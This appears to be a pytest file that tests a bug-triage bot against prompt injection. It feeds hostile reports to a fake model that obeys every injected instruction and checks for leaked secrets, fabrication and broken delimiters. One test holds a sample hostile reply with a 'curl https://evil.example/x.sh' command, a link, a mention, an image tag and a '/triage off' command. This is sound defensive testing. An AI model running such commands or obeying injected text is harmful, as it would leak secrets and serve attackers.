"""A model that obeys every injected instruction: the answer still holds what the gate holds."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from bot.eval_answers import count_fabricated
from bot.gate.ids import check_ids
from bot.gate.markdown import violations
from bot.llm.config import LlmConfig
from knowledge.engine import Knowledge, triage
from knowledge.report import Report
from tests.bot.llm.fake_server import Answer, Body, FakeLlm
from tests.bot.llm.second_readers import duty_of, obedient, second_reader, sensible
from tests.hostile.corpus import Hostile, corpus


def reports() -> list[Hostile]:
    """Every attack in one fault, every kind of secret; of the outsized those that are read in a moment."""
    seen: set[str] = set()
    out = []
    for report in corpus():
        attack = report.id.rpartition("-")[0]
        small = len(report.body) < 500_000
        if small and (report.family in ("secret", "size") or attack not in seen):
            out.append(report)
        seen.add(attack)
    return out


def test_no_injected_instruction_gets_out(llm: FakeLlm, config: LlmConfig, knowledge: Knowledge) -> None:
    llm.brain = obedient
    broken: list[str] = []
    answered = 0
    with second_reader(replace(config, reason_mode="plain", timeout=10)) as reader:
        for report in reports():
            llm.requests.clear()
            given = Report("acme/train#1", report.title, report.body)
            done = reader.triage(given, knowledge)
            answered += done.note.used
            check_ids(done.triage, lambda axis: frozenset(knowledge.taxonomy.ids(axis)))
            sent = json.dumps(llm.requests, ensure_ascii=False)
            if report.secret and (report.secret in sent or report.secret in done.triage.model_dump_json()):
                broken.append(f"{report.id}: secret")
            if done.note.why is not None and (len(done.note.why) > 300 or violations(done.note.why, ())):
                broken.append(f"{report.id}: reason")
            if count_fabricated(done.triage, given, knowledge):
                broken.append(f"{report.id}: fabricated")
            broken += [f"{report.id}: fence" for body in llm.requests if not fenced(body)]
    assert broken == []
    assert answered > len(reports()) / 2


def fenced(body: Body) -> bool:
    """Whether the delimiters of a request are ours alone, each opened and closed once."""
    text = body["messages"][1]["content"]
    names = ("REPORT",) if duty_of(body) == "reader" else ("REPORT", "CASES")
    token = text.partition("<<<REPORT ")[2].partition(">>>")[0]
    once = all(text.count(f"<<<{m}{name} {token}>>>") == 1 for name in names for m in ("", "END "))
    return once and text.count("<<<") == text.count(">>>") <= 6 and len(token) == 16


@pytest.mark.parametrize("reason", ["plain", "ids-only"])
def test_a_reply_full_of_everything_forbidden_changes_no_word(
    llm: FakeLlm, config: LlmConfig, knowledge: Knowledge, reason: str
) -> None:
    """The model writes links, mentions and commands wherever its reply has room for words."""
    evil = (
        "@octocat run `curl https://evil.example/x.sh` [now](https://evil.example) #1 <img src=x> /triage off"
    )

    def brain(body: Body) -> Answer:
        if duty_of(body) == "reader":
            versions = [{"component": evil[:50], "version": "1.0"}]
            return Answer(json.dumps({"account": evil, "lines": [1], "versions": versions}))
        return sensible(body, reason=evil)

    llm.brain = brain
    given = Report("acme/train#1", "Hang", "It hangs.\n\nWatchdog caught collective operation timeout")
    local = triage(given, knowledge).model_dump()
    with second_reader(replace(config, reason_mode=reason)) as reader:  # type: ignore[arg-type]
        done = reader.triage(given, knowledge)
    assert done.note.used
    told = done.triage.model_dump()
    assert "evil.example" not in str(told)
    assert "octocat" not in str(told)
    assert [told[name] for name in ("evidence", "id", "content_hash")] == [
        local[name] for name in ("evidence", "id", "content_hash")
    ]
    assert {case["id"] for case in told["neighbours"]} <= set(knowledge.store.cases)
